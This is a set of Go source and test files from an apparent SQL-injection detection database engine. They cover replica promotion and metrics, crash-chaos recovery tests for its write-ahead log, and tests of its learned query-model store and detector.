func (rs *ReplicaState) AppliedSeq() uint64 { return rs.applied.Load() }

// ObserveSourceSeq records the newest sequence the primary reported
// (batch heads and heartbeats); the lag gauge measures against it.
func (rs *ReplicaState) ObserveSourceSeq(seq uint64) { rs.observeSeq(seq) }

func (rs *ReplicaState) observeSeq(seq uint64) {
	for {
		cur := rs.sourceSeq.Load()
		if seq <= cur || rs.sourceSeq.CompareAndSwap(cur, seq) {
			return
		}
	}
}

// SetConnState publishes the transport's lifecycle state (repl.state).
func (rs *ReplicaState) SetConnState(st ReplConnState) {
	if rs.promoted.Load() {
		return
	}
	rs.state.Store(int64(st))
}

// ConnState reads the transport lifecycle state.
func (rs *ReplicaState) ConnState() ReplConnState {
	return ReplConnState(rs.state.Load())
}

// Promote is the failover hook: it turns the replica into a primary by
// clearing replica mode and every store's read-only gate. Idempotent.
// The caller is responsible for stopping the replication transport; any
// straggling applies after promotion are refused, so a promoted node can
// never be half-overwritten by its former primary.
func (rs *ReplicaState) Promote() {
	if rs.promoted.Swap(true) {
		return
	}
	rs.state.Store(int64(ReplPromoted))
	s := rs.sep
	s.regMu.Lock()
	s.replica.Store(false)
	for _, d := range s.Domains() {
		d.store.setReadOnly(false)
	}
	s.regMu.Unlock()
	s.logger.Log(Event{Kind: EventModeChanged,
		Detail: fmt.Sprintf("replica promoted to primary at seq %d", rs.applied.Load())})
	if s.obs != nil {
		s.obs.Publish(obs.Event{Kind: obs.KindMode,
			Detail: fmt.Sprintf("replica promoted to primary at seq %d", rs.applied.Load())})
	}
}

// Promoted reports whether the failover hook has fired.
func (rs *ReplicaState) Promoted() bool { return rs.promoted.Load() }

// Stats snapshots the apply-path counters.
func (rs *ReplicaState) Stats() ReplicaStats {
	applied := rs.applied.Load()
	source := rs.sourceSeq.Load()
	var lag uint64
	if source > applied {
		lag = source - applied
	}
	return ReplicaStats{
		AppliedSeq:     applied,
		SourceSeq:      source,
		LagSeq:         lag,
		AppliedRecords: rs.appliedRecords.Load(),
		Snapshots:      rs.snapshots.Load(),
		SnapshotBytes:  rs.snapshotBytes.Load(),
		DuplicateSeqs:  rs.duplicateSeqs.Load(),
		Skipped:        rs.skipped.Load(),
		ApplyErrors:    rs.applyErrors.Load(),
		State:          rs.ConnState(),
		Promoted:       rs.promoted.Load(),
	}
}

// registerGauges exports the apply-path counters as repl.* metrics.
func (rs *ReplicaState) registerGauges(m *obs.Registry) {
	m.GaugeFunc("repl.applied_seq", func() int64 { return int64(rs.applied.Load()) })
	m.GaugeFunc("repl.source_seq", func() int64 { return int64(rs.sourceSeq.Load()) })
	m.GaugeFunc("repl.lag_seq", func() int64 { return int64(rs.Stats().LagSeq) })
	m.GaugeFunc("repl.applied_total", rs.appliedRecords.Load)
	m.GaugeFunc("repl.snapshots", rs.snapshots.Load)
	m.GaugeFunc("repl.snapshot_bytes", rs.snapshotBytes.Load)
	m.GaugeFunc("repl.duplicate_seqs", rs.duplicateSeqs.Load)
	m.GaugeFunc("repl.skipped", rs.skipped.Load)
	m.GaugeFunc("repl.apply_errors", rs.applyErrors.Load)
	m.GaugeFunc("repl.state", rs.state.Load)
}
