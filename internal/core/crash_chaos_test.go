package core

import (
	"fmt"
	"math/rand"
	"testing"

	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/wal"
)

// The crash-chaos suite (run via `make chaos`, always part of
// `go test`) kills the durability machinery at random kill points —
// mid-frame, before fsync, during rotation, inside a checkpoint's
// atomic rename — then restarts from whatever the "crash" left on disk
// and asserts the two invariants the WAL exists for:
//
//  1. No acknowledged training update is ever lost. With fsync=always,
//     Store.Put returning true IS the durability acknowledgement; every
//     acked (domain, id) must be present after every recovery, cycle
//     after cycle.
//  2. Recovery converges. Every restart must attach successfully over
//     the previous crash's debris — a torn tail is truncated once and
//     the next recovery is clean, never an error loop or a panic.
//
// A crash is an in-process panic(faultinject.Crash) recovered at the
// harness boundary: the files are left exactly as the kill left them
// (no Close, no flush — the abandoned handles are the dead process's),
// which is as close to kill -9 as a single test process gets.

// chaosOp runs one mutation with crash containment; reports whether the
// injected kill fired.
func chaosOp(t *testing.T, op func()) (crashed bool) {
	t.Helper()
	defer func() {
		if r := recover(); r != nil {
			if !faultinject.IsCrash(r) {
				panic(r) // a real bug, not the injected kill
			}
			crashed = true
		}
	}()
	op()
	return false
}

func TestChaosCrashRecoveryNeverLosesAckedUpdates(t *testing.T) {
	const cycles = 60
	dir := t.TempDir()
	rng := rand.New(rand.NewSource(0x5EB71C))
	sites := faultinject.KillSites()

	// A few distinct models to learn; identity is (domain, id), so the
	// same model under different ids exercises everything.
	models := []qstruct.Model{
		modelFor(t, "SELECT a FROM t WHERE b = 1"),
		modelFor(t, "SELECT name, price FROM products WHERE cat = 'x'"),
		modelFor(t, "INSERT INTO logs (msg) VALUES ('hello')"),
	}
	domains := []string{DefaultDomain, "shop"}

	// acked maps "domain/id" → model fingerprint for every Put that
	// returned true and was not later deleted; limbo holds ids whose
	// delete may or may not have reached the log before a crash.
	acked := make(map[string]uint64)
	limbo := make(map[string]uint64)
	nextID, crashes, checkpoints := 0, 0, 0

	boot := func() (*Septic, *Persistence) {
		s := New(DefaultConfig())
		if _, err := s.RegisterDomain("shop", DefaultConfig()); err != nil {
			t.Fatal(err)
		}
		p, err := s.AttachPersistence(PersistenceOptions{
			Dir:   dir,
			Fsync: wal.FsyncAlways,
			// Tiny segments force rotations so the rotate/trim kill
			// points actually fire.
			SegmentSize: 512,
		})
		if err != nil {
			t.Fatalf("recovery did not converge: %v", err)
		}
		return s, p
	}

	for cycle := 0; cycle < cycles; cycle++ {
		s, p := boot()

		// Invariant 1: everything acked before the last crash survived.
		for key, fp := range acked {
			dom, id := splitKey(key)
			d, ok := s.Domain(dom)
			if !ok {
				t.Fatalf("cycle %d: domain %q vanished", cycle, dom)
			}
			view, ok := d.Store().Get(id)
			if !ok {
				t.Fatalf("cycle %d: acked update %s lost (crashes so far: %d)", cycle, key, crashes)
			}
			found := false
			for i := 0; i < view.Len(); i++ {
				if view.At(i).Fingerprint() == fp {
					found = true
					break
				}
			}
			if !found {
				t.Fatalf("cycle %d: acked model for %s recovered with wrong content", cycle, key)
			}
		}
		// Limbo ids settle on restart: if the delete reached the log the
		// id is gone for good; if it didn't, the put is still durable
		// and the id is required again from here on.
		for key, fp := range limbo {
			dom, id := splitKey(key)
			d, _ := s.Domain(dom)
			if _, ok := d.Store().Get(id); ok {
				acked[key] = fp
			}
			delete(limbo, key)
		}

		// Arm one random kill point with a random countdown and run a
		// burst of mutations until it fires (or the burst ends).
		site := sites[rng.Intn(len(sites))]
		faultinject.Arm(faultinject.KillPoint(site, int64(1+rng.Intn(6))))
		crashed := false
		for op := 0; op < 24 && !crashed; op++ {
			switch r := rng.Intn(10); {
			case r < 6: // put
				dom := domains[rng.Intn(len(domains))]
				id := fmt.Sprintf("q%06d", nextID)
				nextID++
				m := models[rng.Intn(len(models))]
				d, _ := s.Domain(dom)
				crashed = chaosOp(t, func() {
					if d.Store().Put(id, m, false) {
						acked[dom+"/"+id] = m.Fingerprint()
					}
				})
			case r < 7 && len(acked) > 0: // delete a random acked id
				for key := range acked {
					dom, id := splitKey(key)
					d, _ := s.Domain(dom)
					fp := acked[key]
					delete(acked, key)
					limbo[key] = fp
					crashed = chaosOp(t, func() { d.Store().Delete(id) })
					break
				}
			case r < 8: // mode flip (never acked: no assertion later)
				d, _ := s.Domain(domains[rng.Intn(len(domains))])
				mode := []Mode{ModeTraining, ModeDetection, ModePrevention}[rng.Intn(3)]
				crashed = chaosOp(t, func() { d.SetMode(mode) })
			default: // checkpoint
				crashed = chaosOp(t, func() {
					if err := p.Checkpoint(); err == nil {
						checkpoints++
					}
				})
			}
		}
		faultinject.Disarm()
		if crashed {
			crashes++
		}
		// The dead process's descriptors are reaped, never Close()d: Kill
		// releases them — and with them the WAL directory lock, as the
		// kernel would — without flushing a byte. fsync=always has
		// already made every acked append durable.
		p.Kill()
	}

	if crashes == 0 {
		t.Fatal("no kill point ever fired: the chaos exercised nothing")
	}
	if checkpoints == 0 {
		t.Fatal("no checkpoint ever completed")
	}
	// Final convergence check: one more boot over the last crash's
	// debris, then a clean close and one more boot over THAT.
	s, p := boot()
	for key := range acked {
		dom, id := splitKey(key)
		d, _ := s.Domain(dom)
		if _, ok := d.Store().Get(id); !ok {
			t.Fatalf("final recovery lost %s", key)
		}
	}
	if err := p.Checkpoint(); err != nil {
		t.Fatalf("final checkpoint: %v", err)
	}
	if err := p.Close(); err != nil {
		t.Fatalf("final close: %v", err)
	}
	s2, p2 := boot()
	defer p2.Close()
	if got, want := storeLenOf(s2), storeLenOf(s); got != want {
		t.Fatalf("post-checkpoint recovery has %d identifiers, want %d", got, want)
	}
	t.Logf("chaos: %d cycles, %d crashes, %d checkpoints, %d acked updates verified",
		cycles, crashes, checkpoints, len(acked))
}

// splitKey splits "domain/id" back apart (ids never contain '/').
func splitKey(key string) (dom, id string) {
	for i := 0; i < len(key); i++ {
		if key[i] == '/' {
			return key[:i], key[i+1:]
		}
	}
	return DefaultDomain, key
}

func storeLenOf(s *Septic) int {
	n := 0
	for _, d := range s.Domains() {
		n += d.Store().Len()
	}
	return n
}
