package core

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

func modelFor(t *testing.T, query string) qstruct.Model {
	t.Helper()
	stmt, err := sqlparser.Parse(query)
	if err != nil {
		t.Fatal(err)
	}
	return qstruct.ModelOf(qstruct.BuildStack(stmt))
}

func TestStorePutDedupesByFingerprint(t *testing.T) {
	s := NewStore()
	m := modelFor(t, "SELECT a FROM t WHERE b = 1")
	if !s.Put("id1", m, false) {
		t.Fatal("first Put should add")
	}
	if s.Put("id1", m, false) {
		t.Fatal("identical model must not be re-added")
	}
	if s.Len() != 1 || s.ModelCount() != 1 {
		t.Errorf("len=%d models=%d", s.Len(), s.ModelCount())
	}
}

func TestStoreHoldsModelSetsPerID(t *testing.T) {
	s := NewStore()
	byName := modelFor(t, "SELECT id FROM devices ORDER BY name")
	byLocation := modelFor(t, "SELECT id FROM devices ORDER BY location")
	if !s.Put("devices", byName, false) || !s.Put("devices", byLocation, false) {
		t.Fatal("both variants should be added")
	}
	if s.Len() != 1 {
		t.Errorf("ids = %d, want 1", s.Len())
	}
	if s.ModelCount() != 2 {
		t.Errorf("models = %d, want 2", s.ModelCount())
	}
	models, ok := s.Get("devices")
	if !ok || models.Len() != 2 {
		t.Fatalf("Get = %v, %t", models, ok)
	}
}

func TestModelViewEmpty(t *testing.T) {
	var zero ModelView
	if !zero.Empty() || zero.Len() != 0 {
		t.Error("zero view must be empty")
	}
	v := ViewOf(modelFor(t, "SELECT 1"))
	if v.Empty() || v.Len() != 1 {
		t.Errorf("ViewOf one model: Empty=%t Len=%d", v.Empty(), v.Len())
	}
}

func TestStoreGetIsCopyOnWrite(t *testing.T) {
	s := NewStore()
	s.Put("id", modelFor(t, "SELECT 1"), false)
	before, _ := s.Get("id")
	if before.Len() != 1 {
		t.Fatalf("before.Len() = %d, want 1", before.Len())
	}
	// A later Put publishes a new slice; the view already fetched must
	// keep its contents (readers hold it lock-free).
	if !s.Put("id", modelFor(t, "SELECT 1 ORDER BY 1"), false) {
		t.Fatal("variant should be added")
	}
	if before.Len() != 1 || len(before.At(0).Nodes) == 0 {
		t.Error("Put mutated a view a previous Get returned")
	}
	after, _ := s.Get("id")
	if after.Len() != 2 {
		t.Errorf("after.Len() = %d, want 2", after.Len())
	}
}

func TestStoreSaveLoadRoundTripsModelSets(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	s := NewStore()
	s.Put("devices", modelFor(t, "SELECT id FROM devices ORDER BY name"), false)
	s.Put("devices", modelFor(t, "SELECT id FROM devices ORDER BY location"), false)
	s.Put("other", modelFor(t, "DELETE FROM logs WHERE ts < 5"), false)
	if err := s.Save(path); err != nil {
		t.Fatal(err)
	}
	loaded := NewStore()
	if err := loaded.Load(path); err != nil {
		t.Fatal(err)
	}
	if loaded.Len() != 2 || loaded.ModelCount() != 3 {
		t.Errorf("loaded len=%d models=%d, want 2/3", loaded.Len(), loaded.ModelCount())
	}
	models, _ := loaded.Get("devices")
	if models.Len() != 2 {
		t.Errorf("devices models = %d, want 2", models.Len())
	}
}

// TestStoreSaveLoadUnderConcurrentChurn snapshots a store WHILE writers
// churn it: Save must always produce an internally consistent file (it
// holds each shard's read lock while walking it), so every snapshot
// must load cleanly — fingerprints intact, stable identifiers always
// present, churned identifiers either fully present or fully absent.
// Run under -race this also pins Save/Put/Delete lock discipline.
func TestStoreSaveLoadUnderConcurrentChurn(t *testing.T) {
	s := NewStore()
	stable := map[string]qstruct.Model{
		"stable:a": modelFor(t, "SELECT id FROM devices ORDER BY name"),
		"stable:b": modelFor(t, "DELETE FROM logs WHERE ts < 5"),
		"stable:c": modelFor(t, "INSERT INTO readings (v) VALUES (1)"),
	}
	for id, m := range stable {
		s.Put(id, m, false)
	}
	churned := []string{"churn:x", "churn:y", "churn:z"}
	churnModel := modelFor(t, "UPDATE devices SET name = 'n' WHERE id = 1")

	stop := make(chan struct{})
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			id := churned[w%len(churned)]
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				if i%2 == 0 {
					s.Put(id, churnModel, false)
				} else {
					s.Delete(id)
				}
			}
		}(w)
	}

	dir := t.TempDir()
	for i := 0; i < 25; i++ {
		path := filepath.Join(dir, "snap.json")
		if err := s.Save(path); err != nil {
			t.Fatalf("Save #%d under churn: %v", i, err)
		}
		loaded := NewStore()
		if err := loaded.Load(path); err != nil {
			t.Fatalf("Load #%d of churned snapshot: %v", i, err)
		}
		for id := range stable {
			models, ok := loaded.Get(id)
			if !ok || models.Len() != 1 {
				t.Fatalf("snapshot #%d lost stable id %q (ok=%t)", i, id, ok)
			}
		}
		for _, id := range churned {
			if models, ok := loaded.Get(id); ok && models.Len() != 1 {
				t.Fatalf("snapshot #%d has torn set for %q: %d models", i, id, models.Len())
			}
		}
	}
	close(stop)
	wg.Wait()
}

// TestDomainStoresSaveLoadIndependently churns one protection domain's
// store while snapshotting another's: the partitions are separate Store
// instances, so a domain's persisted file must contain exactly its own
// identifiers no matter what its neighbours are doing — the persistence
// half of the isolation contract.
func TestDomainStoresSaveLoadIndependently(t *testing.T) {
	sep := New(Config{Mode: ModeTraining})
	alpha, err := sep.RegisterDomain("alpha", Config{Mode: ModeTraining, IncrementalLearning: true})
	if err != nil {
		t.Fatal(err)
	}
	beta, err := sep.RegisterDomain("beta", Config{Mode: ModeTraining, IncrementalLearning: true})
	if err != nil {
		t.Fatal(err)
	}
	m := modelFor(t, "SELECT id FROM devices WHERE id = 1")
	beta.Store().Put("beta:q1", m, false)
	beta.Store().Put("beta:q2", modelFor(t, "SELECT 1"), false)

	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			if i%2 == 0 {
				alpha.Store().Put("alpha:q1", m, false)
			} else {
				alpha.Store().Delete("alpha:q1")
			}
		}
	}()

	dir := t.TempDir()
	for i := 0; i < 10; i++ {
		path := filepath.Join(dir, "beta.json")
		if err := beta.Store().Save(path); err != nil {
			t.Fatalf("beta Save #%d: %v", i, err)
		}
		loaded := NewStore()
		if err := loaded.Load(path); err != nil {
			t.Fatalf("beta Load #%d: %v", i, err)
		}
		if loaded.Len() != 2 {
			t.Fatalf("beta snapshot #%d has %d ids, want 2", i, loaded.Len())
		}
		for _, id := range loaded.IDs() {
			if !strings.HasPrefix(id, "beta:") {
				t.Fatalf("beta snapshot #%d contains foreign id %q", i, id)
			}
		}
	}
	close(stop)
	wg.Wait()

	// And the round trip restores a partition in place: load beta's file
	// into alpha's store (a restart with swapped paths would do this) and
	// the store carries exactly the file's contents.
	path := filepath.Join(dir, "beta.json")
	if err := alpha.Store().Load(path); err != nil {
		t.Fatal(err)
	}
	if alpha.Store().Len() != 2 {
		t.Errorf("restored store has %d ids, want 2", alpha.Store().Len())
	}
}

func TestStoreLoadRejectsWrongVersion(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	mustWrite(t, path, []byte(`{"version": 99, "models": {}, "sums": {}}`))
	if err := NewStore().Load(path); err == nil {
		t.Fatal("wrong version must be rejected")
	}
}

func TestStoreLoadMissingFile(t *testing.T) {
	if err := NewStore().Load(filepath.Join(t.TempDir(), "nope.json")); err == nil {
		t.Fatal("missing file must error")
	}
}

func TestStoreDeleteRemovesWholeSet(t *testing.T) {
	s := NewStore()
	s.Put("id", modelFor(t, "SELECT 1"), false)
	s.Put("id", modelFor(t, "SELECT 1, 2"), false)
	s.Delete("id")
	if _, ok := s.Get("id"); ok {
		t.Error("Delete left models behind")
	}
}

// TestSingleModelAblation reproduces the paper's one-model-per-ID
// behaviour by limiting the detector to the first learned model: the
// second legitimate variant is then flagged — the false positive the
// model-set extension removes.
func TestSingleModelAblation(t *testing.T) {
	byName := modelFor(t, "SELECT id FROM devices ORDER BY name")
	variantStmt, err := sqlparser.Parse("SELECT id FROM devices ORDER BY location")
	if err != nil {
		t.Fatal(err)
	}
	variant := qstruct.BuildStack(variantStmt)
	det := NewDetector(DefaultPlugins())

	// Paper behaviour: only the first model.
	if _, attack := det.DetectSQLI(variant, ViewOf(byName)); !attack {
		t.Error("single-model: variant should be flagged (the documented FP)")
	}
	// Extension: the set contains both.
	byLocation := modelFor(t, "SELECT id FROM devices ORDER BY location")
	if _, attack := det.DetectSQLI(variant, ViewOf(byName, byLocation)); attack {
		t.Error("model-set: trained variant should pass")
	}
}

func TestDetectorPrefersSyntacticalVerdict(t *testing.T) {
	det := NewDetector(DefaultPlugins())
	// Two models: one longer (structural mismatch), one same-length
	// (syntactical mismatch). The reported verdict should be the
	// syntactical one — the closest explanation.
	longer := modelFor(t, "SELECT id FROM t WHERE a = 1 AND b = 2")
	sameLen := modelFor(t, "SELECT id FROM t WHERE a = 'x'")
	qsStmt, err := sqlparser.Parse("SELECT id FROM t WHERE a = c")
	if err != nil {
		t.Fatal(err)
	}
	qs := qstruct.BuildStack(qsStmt)
	d, attack := det.DetectSQLI(qs, ViewOf(longer, sameLen))
	if !attack {
		t.Fatal("mismatching query not flagged")
	}
	if d.Step != qstruct.StepSyntactical {
		t.Errorf("step = %s, want syntactical (closest model)", d.Step)
	}
}

func TestStoreSaveCrashKeepsOldSnapshot(t *testing.T) {
	// A save that dies at any kill point — before the temp file is
	// durable, or between durability and the rename — must leave the
	// previous snapshot readable and byte-identical: the atomic
	// publication protocol (temp + fsync + rename + dir fsync) never
	// exposes a torn file.
	path := filepath.Join(t.TempDir(), "models.json")
	s := NewStore()
	s.Put("stable", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	if err := s.Save(path); err != nil {
		t.Fatal(err)
	}
	good, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s.Put("newer", modelFor(t, "SELECT c FROM u WHERE d = 2"), false)

	for _, site := range []string{
		faultinject.SiteStoreSave,
		faultinject.SiteAtomicWrite,
		faultinject.SiteAtomicRename,
	} {
		t.Run(site, func(t *testing.T) {
			faultinject.Arm(faultinject.KillPoint(site, 1))
			defer faultinject.Disarm()
			func() {
				defer func() {
					if r := recover(); r != nil && !faultinject.IsCrash(r) {
						panic(r)
					}
				}()
				_ = s.Save(path)
			}()
			after, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("snapshot unreadable after crash at %s: %v", site, err)
			}
			if string(after) != string(good) {
				t.Fatalf("crash at %s left a changed snapshot", site)
			}
			restored := NewStore()
			if err := restored.Load(path); err != nil {
				t.Fatalf("snapshot unloadable after crash at %s: %v", site, err)
			}
		})
	}
	// With no kill point armed the save goes through and the new
	// snapshot loads with both identifiers.
	if err := s.Save(path); err != nil {
		t.Fatal(err)
	}
	restored := NewStore()
	if err := restored.Load(path); err != nil {
		t.Fatal(err)
	}
	if restored.Len() != 2 {
		t.Fatalf("restored %d identifiers, want 2", restored.Len())
	}
}

func TestStoreLoadRejectsMalformedFiles(t *testing.T) {
	// Load must reject what a plain json.Unmarshal forgives. The
	// duplicate-identifier case matters because last-one-wins silently
	// DROPS learned models — a narrowed store means false positives; the
	// size cap stops one ballooned record from swallowing boot memory.
	big := strings.Repeat("x", maxPersistedSetBytes)
	cases := []struct {
		name string
		data string
		want string
	}{
		{
			name: "duplicate identifier",
			data: `{"version": 3, "sets": {"q1": {"models": []}, "q1": {"models": []}}}`,
			want: "duplicate identifier",
		},
		{
			name: "oversized record",
			data: `{"version": 3, "sets": {"q1": {"models": [], "pad": "` + big + `"}}}`,
			want: "exceeds",
		},
		{
			name: "not an object",
			data: `[1, 2, 3]`,
			want: "not a JSON object",
		},
		{
			name: "sets not an object",
			data: `{"version": 3, "sets": [1]}`,
			want: "sets is not an object",
		},
		{
			name: "truncated",
			data: `{"version": 3, "sets": {"q1": {"mod`,
			want: "",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "models.json")
			mustWrite(t, path, []byte(tc.data))
			err := NewStore().Load(path)
			if err == nil {
				t.Fatalf("%s accepted", tc.name)
			}
			if tc.want != "" && !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q does not mention %q", err, tc.want)
			}
		})
	}
	// Unknown top-level fields are forward-compatible, not an error.
	path := filepath.Join(t.TempDir(), "models.json")
	mustWrite(t, path, []byte(`{"version": 3, "future": {"a": 1}, "sets": {}}`))
	if err := NewStore().Load(path); err != nil {
		t.Fatalf("unknown top-level field rejected: %v", err)
	}
}

// TestVerifySetsRequiresOneSumPerModel: a record pairing fewer (or
// more) fingerprints than models is corrupt in itself — a truncated
// Sums array must not let the unmatched models bypass verification.
func TestVerifySetsRequiresOneSumPerModel(t *testing.T) {
	m := modelFor(t, "SELECT a FROM t WHERE b = 1")
	good := map[string]persistedSet{"q": {Models: []qstruct.Model{m}, Sums: []uint64{m.Fingerprint()}}}
	if err := verifySets(good); err != nil {
		t.Fatalf("well-formed set rejected: %v", err)
	}
	bad := map[string]map[string]persistedSet{
		"missing sums":   {"q": {Models: []qstruct.Model{m}}},
		"truncated sums": {"q": {Models: []qstruct.Model{m, m}, Sums: []uint64{m.Fingerprint()}}},
		"surplus sums":   {"q": {Models: []qstruct.Model{m}, Sums: []uint64{m.Fingerprint(), 7}}},
		"wrong sum":      {"q": {Models: []qstruct.Model{m}, Sums: []uint64{m.Fingerprint() + 1}}},
	}
	for name, sets := range bad {
		if verifySets(sets) == nil {
			t.Fatalf("%s accepted", name)
		}
	}
}

// TestStoreLoadRejectsTruncatedSums drives the same property through
// the full Load path on a real snapshot with its sums array emptied.
func TestStoreLoadRejectsTruncatedSums(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	s := NewStore()
	s.Put("q1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	if err := s.Save(path); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	edited := regexp.MustCompile(`(?s)"sums": \[.*?\]`).ReplaceAll(data, []byte(`"sums": []`))
	if string(edited) == string(data) {
		t.Fatal("snapshot edit found no sums array")
	}
	mustWrite(t, path, edited)
	if err := NewStore().Load(path); err == nil || !strings.Contains(err.Error(), "fingerprint") {
		t.Fatalf("snapshot with truncated sums accepted: %v", err)
	}
}

// TestStoreDump covers the /qm introspection rendering: sorted ids,
// hit counts, and top-down node stacks.
func TestStoreDump(t *testing.T) {
	s := NewStore()
	s.Put("zz", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	s.Put("aa", modelFor(t, "SELECT name FROM users WHERE id = 2"), true)
	if _, ok := s.Get("aa"); !ok { // one hit for aa
		t.Fatal("get aa")
	}

	dump := s.Dump()
	if len(dump) != 2 || dump[0].ID != "aa" || dump[1].ID != "zz" {
		t.Fatalf("dump not sorted by id: %+v", dump)
	}
	if dump[0].Hits != 1 || !dump[0].Incremental {
		t.Fatalf("aa metadata: %+v", dump[0])
	}
	if len(dump[0].Models) != 1 || len(dump[0].Models[0]) == 0 {
		t.Fatalf("aa has no rendered stack: %+v", dump[0].Models)
	}
	for _, node := range dump[0].Models[0] {
		if node == "" {
			t.Fatal("empty rendered node")
		}
	}
}
