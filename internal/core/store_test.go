package core

import (
	"path/filepath"
	"testing"

	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

func modelFor(t *testing.T, query string) qstruct.Model {
	t.Helper()
	stmt, err := sqlparser.Parse(query)
	if err != nil {
		t.Fatal(err)
	}
	return qstruct.ModelOf(qstruct.BuildStack(stmt))
}

func TestStorePutDedupesByFingerprint(t *testing.T) {
	s := NewStore()
	m := modelFor(t, "SELECT a FROM t WHERE b = 1")
	if !s.Put("id1", m, false) {
		t.Fatal("first Put should add")
	}
	if s.Put("id1", m, false) {
		t.Fatal("identical model must not be re-added")
	}
	if s.Len() != 1 || s.ModelCount() != 1 {
		t.Errorf("len=%d models=%d", s.Len(), s.ModelCount())
	}
}

func TestStoreHoldsModelSetsPerID(t *testing.T) {
	s := NewStore()
	byName := modelFor(t, "SELECT id FROM devices ORDER BY name")
	byLocation := modelFor(t, "SELECT id FROM devices ORDER BY location")
	if !s.Put("devices", byName, false) || !s.Put("devices", byLocation, false) {
		t.Fatal("both variants should be added")
	}
	if s.Len() != 1 {
		t.Errorf("ids = %d, want 1", s.Len())
	}
	if s.ModelCount() != 2 {
		t.Errorf("models = %d, want 2", s.ModelCount())
	}
	models, ok := s.Get("devices")
	if !ok || len(models) != 2 {
		t.Fatalf("Get = %v, %t", models, ok)
	}
}

func TestStoreGetIsCopyOnWrite(t *testing.T) {
	s := NewStore()
	s.Put("id", modelFor(t, "SELECT 1"), false)
	before, _ := s.Get("id")
	if len(before) != 1 {
		t.Fatalf("len(before) = %d, want 1", len(before))
	}
	// A later Put publishes a new slice; the one already fetched must
	// keep its contents (readers hold it lock-free).
	if !s.Put("id", modelFor(t, "SELECT 1 ORDER BY 1"), false) {
		t.Fatal("variant should be added")
	}
	if len(before) != 1 || len(before[0].Nodes) == 0 {
		t.Error("Put mutated a slice a previous Get returned")
	}
	after, _ := s.Get("id")
	if len(after) != 2 {
		t.Errorf("len(after) = %d, want 2", len(after))
	}
}

func TestStoreSaveLoadRoundTripsModelSets(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	s := NewStore()
	s.Put("devices", modelFor(t, "SELECT id FROM devices ORDER BY name"), false)
	s.Put("devices", modelFor(t, "SELECT id FROM devices ORDER BY location"), false)
	s.Put("other", modelFor(t, "DELETE FROM logs WHERE ts < 5"), false)
	if err := s.Save(path); err != nil {
		t.Fatal(err)
	}
	loaded := NewStore()
	if err := loaded.Load(path); err != nil {
		t.Fatal(err)
	}
	if loaded.Len() != 2 || loaded.ModelCount() != 3 {
		t.Errorf("loaded len=%d models=%d, want 2/3", loaded.Len(), loaded.ModelCount())
	}
	models, _ := loaded.Get("devices")
	if len(models) != 2 {
		t.Errorf("devices models = %d, want 2", len(models))
	}
}

func TestStoreLoadRejectsWrongVersion(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	mustWrite(t, path, []byte(`{"version": 99, "models": {}, "sums": {}}`))
	if err := NewStore().Load(path); err == nil {
		t.Fatal("wrong version must be rejected")
	}
}

func TestStoreLoadMissingFile(t *testing.T) {
	if err := NewStore().Load(filepath.Join(t.TempDir(), "nope.json")); err == nil {
		t.Fatal("missing file must error")
	}
}

func TestStoreDeleteRemovesWholeSet(t *testing.T) {
	s := NewStore()
	s.Put("id", modelFor(t, "SELECT 1"), false)
	s.Put("id", modelFor(t, "SELECT 1, 2"), false)
	s.Delete("id")
	if _, ok := s.Get("id"); ok {
		t.Error("Delete left models behind")
	}
}

// TestSingleModelAblation reproduces the paper's one-model-per-ID
// behaviour by limiting the detector to the first learned model: the
// second legitimate variant is then flagged — the false positive the
// model-set extension removes.
func TestSingleModelAblation(t *testing.T) {
	byName := modelFor(t, "SELECT id FROM devices ORDER BY name")
	variantStmt, err := sqlparser.Parse("SELECT id FROM devices ORDER BY location")
	if err != nil {
		t.Fatal(err)
	}
	variant := qstruct.BuildStack(variantStmt)
	det := NewDetector(DefaultPlugins())

	// Paper behaviour: only the first model.
	if _, attack := det.DetectSQLI(variant, []qstruct.Model{byName}); !attack {
		t.Error("single-model: variant should be flagged (the documented FP)")
	}
	// Extension: the set contains both.
	byLocation := modelFor(t, "SELECT id FROM devices ORDER BY location")
	if _, attack := det.DetectSQLI(variant, []qstruct.Model{byName, byLocation}); attack {
		t.Error("model-set: trained variant should pass")
	}
}

func TestDetectorPrefersSyntacticalVerdict(t *testing.T) {
	det := NewDetector(DefaultPlugins())
	// Two models: one longer (structural mismatch), one same-length
	// (syntactical mismatch). The reported verdict should be the
	// syntactical one — the closest explanation.
	longer := modelFor(t, "SELECT id FROM t WHERE a = 1 AND b = 2")
	sameLen := modelFor(t, "SELECT id FROM t WHERE a = 'x'")
	qsStmt, err := sqlparser.Parse("SELECT id FROM t WHERE a = c")
	if err != nil {
		t.Fatal(err)
	}
	qs := qstruct.BuildStack(qsStmt)
	d, attack := det.DetectSQLI(qs, []qstruct.Model{longer, sameLen})
	if !attack {
		t.Fatal("mismatching query not flagged")
	}
	if d.Step != qstruct.StepSyntactical {
		t.Errorf("step = %s, want syntactical (closest model)", d.Step)
	}
}
