package core

import (
